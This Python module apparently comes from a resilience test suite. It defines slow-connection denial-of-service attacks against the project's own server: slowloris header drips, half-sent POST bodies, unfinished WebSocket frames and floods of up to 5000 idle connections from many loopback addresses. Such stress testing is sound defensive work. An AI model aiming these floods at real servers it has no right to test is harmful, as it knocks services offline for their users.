"""Many connections that hold as much as they can, for as long as they may."""

import itertools
import json

import wire
from attack import Attack, Fate, Target
from swarm import Script, Swarm

BODY = 1 << 20  # the longest body that the server accepts
LONG_MESSAGE = 999_000  # below the longest message of a socket that has connected
SLOWLY = 5.0  # seconds between two bytes of a slowloris


def half_head(path: str = "/api/users/me") -> bytes:
    return wire.request("GET", path)[:-2]


def half_body(path: str, token: str = "", size: int = BODY) -> bytes:
    return wire.request("POST", path, token=token, length=size) + b"x" * (size - 1)


def open_socket(then: bytes = b"", **more) -> Script:
    """A WebSocket that does not connect to a namespace."""
    return Script(opening=wire.upgrade(), awaits=b"0{", then=then, **more)


class Holding(Attack):
    """Keeps many connections open that finish nothing: no request, no body, no message, no CONNECT. Ended ones are reopened.

    An address holds no more than its share of connections and bytes; what is over it is refused at once. What is unfinished ends with its
    time-out. Those who are in notice nothing, and newcomers from other addresses get in.
    """

    def __init__(self, name: str, count: int, make, *, addresses: int = 1, seconds: int = 15):
        self.name, self.count, self.make, self.addresses, self.seconds = name, count, make, addresses, seconds

    def run(self, target: Target, fate: Fate):
        made = self.make(target)
        kinds = made if isinstance(made, list) else [made]
        sources = [f"127.0.1.{number + 1}" for number in range(self.addresses)] if self.addresses > 1 else [""]

        def scripts():
            for kind, source in zip(itertools.cycle(kinds), itertools.cycle(sources)):
                yield kind if not source else Script(**{**vars(kind), "source": source})

        Swarm(target, fate).run(scripts(), self.count)


class HalfPosts(Attack):
    """Makes polling sockets, and sends each a POST that never ends.

    Before CONNECT a POST of more than 64 KiB is refused as soon as its head is there, so nothing of its body is kept.
    """

    name = "half-posts"
    count = 300

    def run(self, target: Target, fate: Fate):
        def scripts():
            while True:
                status, _, body = target.ask(wire.request("GET", wire.POLLING))
                fate.answered(str(status))
                id = json.loads(body[1:])["sid"] if status == 200 else "none"
                yield Script(then=half_body(f"{wire.POLLING}&sid={id}"))

        Swarm(target, fate).run(scripts(), self.count)


def every_kind(target: Target) -> list[Script]:
    return [
        Script(),
        Script(then=half_head(), drip=b"x", every=SLOWLY),
        Script(then=half_body("/api/auth/login", size=16 * 1024)),
        Script(then=wire.upgrade()[:-2], drip=b"x", every=SLOWLY),
        open_socket(),
        open_socket(wire.frame("4" + "x" * 1000, final=False), drip=wire.frame("x", 0, final=False), every=SLOWLY),
        open_socket(wire.frame(b"4", length=1000), drip=b"x", every=SLOWLY),
        Script(then=wire.request("POST", "/api/auth/login", length=1000), drip=b"x", every=SLOWLY),
    ]


ALL = [
    Holding("idle-3000", 3000, lambda target: Script()),
    Holding("slow-heads", 1000, lambda target: Script(then=half_head(), drip=b"x", every=SLOWLY)),
    Holding("slow-bodies", 1000, lambda target: every_kind(target)[-1]),
    Holding("half-bodies", 300, lambda target: Script(then=half_body("/api/auth/login"))),
    Holding("half-bodies-16k", 1000, lambda target: Script(then=half_body("/api/auth/login", size=16 * 1024))),
    Holding(
        "half-bodies-logged-in", 300,
        lambda target: Script(then=half_body(f"/api/rooms/{target.given['room']}/elements", target.token))),
    Holding("sockets-without-connect", 1000, lambda target: open_socket()),
    Holding("half-messages", 300, lambda target: open_socket(wire.frame("4" + "x" * LONG_MESSAGE, final=False))),
    Holding("half-frames", 300, lambda target: open_socket(wire.frame("4" + "x" * 990_000, length=LONG_MESSAGE))),
    Holding("half-messages-60k", 1000, lambda target: open_socket(wire.frame("4" + "x" * 60_000, final=False))),
    HalfPosts(),
    Holding("half-open-5000", 5000, every_kind, seconds=20),
    Holding("half-open-5000-of-50", 5000, every_kind, addresses=50, seconds=20),
]  # fmt: skip
